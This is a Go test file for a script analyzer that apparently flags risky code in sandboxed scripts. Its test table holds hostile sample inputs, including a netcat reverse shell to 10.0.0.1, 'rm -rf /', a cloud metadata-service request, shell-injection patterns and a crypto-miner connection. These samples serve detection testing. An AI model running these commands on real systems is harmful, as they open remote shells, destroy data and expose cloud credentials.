package monitor

import (
	"testing"
)

func TestAnalyze(t *testing.T) {
	a := NewScriptAnalyzer()

	tests := []struct {
		name         string
		script       string
		wantMinCount int // minimum number of findings
		wantPattern  string
	}{
		{"ctypes import", `import ctypes`, 1, "native_code_loading"},
		{"cdll load", `libc = CDLL("libc.so.6")`, 1, "native_code_loading"},
		{"os fork", `pid = os.fork()`, 1, "fork_exec_bypass"},
		{"proc maps", `open("/proc/self/maps").read()`, 1, "interpreter_introspection"},
		{"shell true", `subprocess.run(cmd, shell=True)`, 1, "dynamic_command_construction"},
		{"os system", `os.system("ls " + user_input)`, 1, "dynamic_command_construction"},
		{"socket import", `import socket`, 1, "network_attempt"},
		{"metadata service", `urlopen("http://169.254.169.254/latest/meta-data/")`, 1, "metadata_service"},
		{"reverse shell", `nc -e /bin/sh 10.0.0.1 4444`, 1, "reverse_shell"},
		{"rm rf root", `subprocess.run(["sh", "-c", "rm -rf /"])`, 1, "destructive_command"},
		{"crypto miner", `pool.connect("stratum+tcp://pool.mining.com")`, 1, "crypto_miner"},
		{"clean script", `print("hello world")`, 0, ""},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			findings := a.Analyze(tt.script)
			if len(findings) < tt.wantMinCount {
				t.Errorf("got %d findings, want >= %d", len(findings), tt.wantMinCount)
				return
			}
			if tt.wantPattern != "" {
				found := false
				for _, f := range findings {
					if f.Pattern == tt.wantPattern {
						found = true
						break
					}
				}
				if !found {
					t.Errorf("pattern %q not found in findings: %v", tt.wantPattern, findings)
				}
			}
		})
	}
}

func TestAnalyze_ReportsLineNumbers(t *testing.T) {
	a := NewScriptAnalyzer()

	script := "print(\"ok\")\nimport ctypes\nprint(\"done\")\n"
	findings := a.Analyze(script)
	if len(findings) == 0 {
		t.Fatal("expected at least one finding")
	}
	if findings[0].Line != 2 {
		t.Errorf("finding line = %d, want 2", findings[0].Line)
	}
}

func TestSeverityString(t *testing.T) {
	tests := []struct {
		sev  Severity
		want string
	}{
		{SeverityLow, "low"},
		{SeverityMedium, "medium"},
		{SeverityHigh, "high"},
		{SeverityCritical, "critical"},
		{Severity(99), "unknown"},
	}

	for _, tt := range tests {
		t.Run(tt.want, func(t *testing.T) {
			if got := tt.sev.String(); got != tt.want {
				t.Errorf("Severity(%d).String() = %q, want %q", tt.sev, got, tt.want)
			}
		})
	}
}
